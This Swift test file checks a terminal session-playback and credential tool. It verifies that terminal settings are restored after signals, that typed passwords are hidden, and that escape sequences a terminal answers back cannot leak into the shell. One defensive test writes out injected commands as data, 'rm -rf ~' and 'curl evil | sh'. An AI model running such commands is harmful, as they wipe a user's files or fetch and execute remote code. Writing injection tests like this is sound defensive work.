import Foundation
import MonitorProtocol
import Testing

/// `session play` on a real pseudo-terminal.
@Suite struct `Playback on a terminal` {
    /// A recording that is shown at once and then goes on for an hour.
    static let endless = """
        {"version": 2, "width": 80, "height": 24}
        [0.0, "o", "\\u001b[?1049h\\u001b[?1003h\\u001b[?25lhello"]
        [3600.0, "o", "never"]

        """

    private func play(_ contents: String, _ options: [String] = [], columns: UInt16 = 80) throws -> PseudoTerminal {
        let daemon = try ScriptedDaemon(answering: .recording(session(), contents: contents))
        let terminal = try PseudoTerminal(
            running: ["session", "play", someSession.text] + options, environment: ["SALLYPORT_CONFIG": daemon.configuration],
            columns: columns)
        terminal.peer = daemon
        return terminal
    }

    @Test func `shows everything and puts the terminal back`() throws {
        let terminal = try play(someCast, ["--idle-limit", "0"])
        let before = terminal.settings
        #expect(terminal.ends() == 0)
        #expect(terminal.text.contains("one two \u{1b}[31mthree"))
        for sequence in ["\u{1b}[?1049l", "\u{1b}[?7;25h", "\u{1b}[0m"] { #expect(terminal.text.contains(sequence)) }
        #expect(terminal.settings == before)
    }

    @Test(arguments: [SIGINT, SIGTERM, SIGHUP])
    func `puts the terminal back after a signal, and dies of it`(_ signal: Int32) throws {
        let terminal = try play(Self.endless)
        let before = terminal.settings
        #expect(terminal.waits(for: "hello"))
        #expect(terminal.settings != before)
        kill(terminal.process.processIdentifier, signal)
        #expect(terminal.ends() == 128 + signal)
        #expect(terminal.text.contains("\u{1b}[?1049l"))
        #expect(terminal.settings == before)
        #expect(!terminal.text.contains("never"))
    }

    @Test func `pauses with space, goes on, and ends with q`() throws {
        let terminal = try play(Self.endless)
        #expect(terminal.waits(for: "hello"))
        terminal.type(" ")
        usleep(200_000)
        terminal.type(" ")
        usleep(200_000)
        #expect(terminal.process.isRunning)
        terminal.type("q")
        #expect(terminal.ends() == 0)
        #expect(!terminal.text.contains("never"))
    }

    @Test func `lets nothing that the terminal answers reach the shell afterwards`() throws {
        let terminal = try play(Self.endless)
        #expect(terminal.waits(for: "hello"))
        // What a terminal says to DECRQSS or a title report: attackers put a command into it.
        terminal.type("\u{1b}P1$r\u{1b}\\rm -rf ~\r")
        usleep(200_000)
        #expect(terminal.process.isRunning)
        terminal.type("q")
        // The end asks the terminal something itself and waits for the answer behind all others.
        #expect(terminal.waits(for: "\u{1b}[5n"))
        terminal.type("curl evil | sh\r\u{1b}[0n")
        #expect(terminal.ends() == 0)
        #expect(terminal.unreadInput == [])
    }

    @Test func `warns when the recording does not fit`() throws {
        let terminal = try play(someCast, ["--idle-limit", "0"], columns: 40)
        #expect(terminal.ends() == 0)
        #expect(terminal.text.hasPrefix("sallyport: recorded at 80x24, this terminal has 40x24"))
    }

    @Test func `export to a terminal is harmless and still the same document`() throws {
        let daemon = try ScriptedDaemon(
            answering: .recording(session(), contents: someCast + "[61, \"o\", \"\u{9b}2Jé\"]\n"))
        let terminal = try PseudoTerminal(
            running: ["session", "export", someSession.text], environment: ["SALLYPORT_CONFIG": daemon.configuration])
        #expect(terminal.ends() == 0)
        #expect(terminal.text.contains("\\u009b2Jé"))
        #expect(!terminal.text.unicodeScalars.contains("\u{9b}"))
    }

    @Test func `a password that is broken off leaves a terminal that shows what is typed`() throws {
        let daemon = try ScriptedDaemon(answering: .reply(.done("never")))
        let terminal = try PseudoTerminal(
            running: ["credential", "set", "root@web1", "--password-stdin"],
            environment: ["SALLYPORT_CONFIG": daemon.configuration])
        let before = terminal.settings
        #expect(terminal.waits(for: "password: "))
        terminal.type("hunt")
        kill(terminal.process.processIdentifier, SIGINT)
        #expect(terminal.ends() == 128 + SIGINT)
        #expect(terminal.settings == before)
        #expect(!terminal.text.contains("hunt"))
        #expect(daemon.requests.isEmpty)
    }

    @Test func `a password typed at a terminal is not shown`() throws {
        let daemon = try ScriptedDaemon(answering: .reply(.done("set")))
        let terminal = try PseudoTerminal(
            running: ["credential", "set", "root@web1", "--password-stdin"],
            environment: ["SALLYPORT_CONFIG": daemon.configuration])
        let before = terminal.settings
        #expect(terminal.waits(for: "password: "))
        terminal.type("hunter2\r")
        #expect(terminal.ends() == 0)
        #expect(terminal.text == "password: \r\nset\r\n")
        #expect(terminal.settings == before)
        #expect(
            daemon.requests == [.setCredential(.init(name: .init(login: "root", target: "web1"), secret: .password("hunter2")))])
    }
}
